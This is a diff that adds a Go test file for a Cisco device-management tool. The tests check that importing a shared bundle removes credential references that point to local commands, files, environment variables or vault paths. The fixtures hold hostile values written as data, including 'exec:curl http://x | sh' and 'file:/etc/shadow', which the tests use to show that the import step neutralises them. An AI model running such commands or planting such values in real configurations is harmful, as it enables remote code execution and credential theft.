@@ -0,0 +1,119 @@
+package bundle
+
+import (
+	"slices"
+	"testing"
+
+	"cisco-plink/internal/cisco"
+	"cisco-plink/internal/config"
+	"cisco-plink/internal/credential"
+	"cisco-plink/internal/inventory"
+	"cisco-plink/internal/scheduler"
+)
+
+func TestApplyStripsLocalReferences(t *testing.T) {
+	c := &Contents{
+		Schedules: []*scheduler.ScheduledTask{
+			{ID: "s1", Name: "backup", Username: "exec:whoami", Password: "exec:curl http://x | sh", Servers: []cisco.Server{
+				{IP: "10.0.0.3", Username: "file:/etc/hostname", Password: "exec:id", EnablePassword: "env:ENABLE"},
+			}},
+		},
+		Servers: []cisco.Server{
+			{IP: "10.0.0.1", Username: "admin", Password: "file:/etc/shadow", EnablePassword: "env:ENABLE"},
+			{IP: "10.0.0.2", Username: "admin", Password: "EXEC:id"},
+		},
+		CredentialProfiles: []credential.Profile{
+			{Name: "core", Username: "admin", Password: "plain:env:core", EnablePassword: "exec:id"},
+			{Name: "vault", Username: "admin", Password: "vault:secret/core#password"},
+			{Name: "only-exec", Username: "admin", Password: "exec:id"},
+			{Name: "exec-user", Username: "exec:whoami", Password: "secret"},
+		},
+		Smtp: &config.SmtpConfig{Server: "smtp.example.com", Password: "file:smtp.txt"},
+	}
+	local := &Local{
+		Inventory:   &inventory.Inventory{},
+		Credentials: &credential.Store{},
+	}
+	sel := &Selection{
+		Schedules:          map[string]Resolution{"backup": Add},
+		Servers:            map[string]Resolution{"10.0.0.1": Add}, // 10.0.0.2 is not selected
+		CredentialProfiles: map[string]Resolution{"core": Add, "vault": Add, "only-exec": Add, "exec-user": Add},
+		Smtp:               Add,
+	}
+
+	r, err := c.Apply(local, sel)
+	if err != nil {
+		t.Fatalf("Apply: %v", err)
+	}
+
+	want := []string{
+		"credential profile 'core': enable password",
+		"credential profile 'vault': password",
+		"credential profile 'vault': not imported, no username, password or private key left",
+		"credential profile 'only-exec': password",
+		"credential profile 'only-exec': not imported, no username, password or private key left",
+		"credential profile 'exec-user': username",
+		"credential profile 'exec-user': not imported, no username, password or private key left",
+		"server 10.0.0.1: password",
+		"server 10.0.0.1: enable password",
+		"schedule 'backup': username",
+		"schedule 'backup': password",
+		"schedule 'backup' server 10.0.0.3: username",
+		"schedule 'backup' server 10.0.0.3: password",
+		"schedule 'backup' server 10.0.0.3: enable password",
+		"SMTP: password",
+	}
+	if !slices.Equal(r.Stripped, want) {
+		t.Errorf("Stripped = %q, want %q", r.Stripped, want)
+	}
+
+	if p := local.Credentials.Find("core"); p == nil || p.Password != "plain:env:core" || p.EnablePassword != "" {
+		t.Errorf("profile core = %+v, want the plain: password kept and the enable password cleared", p)
+	}
+	if local.Credentials.Find("vault") != nil || local.Credentials.Find("only-exec") != nil {
+		t.Error("a profile was imported without a password")
+	}
+	if s := local.Inventory.FindServer("10.0.0.1"); s == nil || s.Password != "" || s.EnablePassword != "" {
+		t.Errorf("server 10.0.0.1 = %+v, want the file: and env: references cleared", s)
+	}
+	if len(r.AddSchedules) != 1 || r.AddSchedules[0].Username != "" || r.AddSchedules[0].Password != "" {
+		t.Errorf("AddSchedules = %+v, want one schedule without a username or password", r.AddSchedules)
+	} else if srv := r.AddSchedules[0].Servers[0]; srv.Username != "" || srv.Password != "" || srv.EnablePassword != "" {
+		t.Errorf("schedule server = %+v, want every reference cleared", srv)
+	}
+	if local.Credentials.Find("exec-user") != nil {
+		t.Error("profile exec-user was imported without a username")
+	}
+	if local.Smtp == nil || local.Smtp.Password != "" {
+		t.Errorf("SMTP = %+v, want the password cleared", local.Smtp)
+	}
+
+	// The opened bundle itself is left as it was read
+	if c.Servers[0].Password != "file:/etc/shadow" || c.Schedules[0].Password == "" || c.Schedules[0].Servers[0].Password != "exec:id" {
+		t.Error("Apply modified the bundle contents")
+	}
+}
+
+func TestIsLocalReference(t *testing.T) {
+	tests := []struct {
+		value string
+		want  bool
+	}{
+		{"exec:pass show core", true},
+		{"file:/secret", true},
+		{"Exec:id", false},
+		{"  file:/secret", false},
+		{"plain:exec:id", false},
+		{"env:PASSWORD", true},
+		{"vault:secret/core", true},
+		{"Vault:xyz", false},
+		{"plain-password", false},
+		{"execute:me", false},
+		{"", false},
+	}
+	for _, tt := range tests {
+		if got := isLocalReference(tt.value); got != tt.want {
+			t.Errorf("isLocalReference(%q) = %v, want %v", tt.value, got, tt.want)
+		}
+	}
+}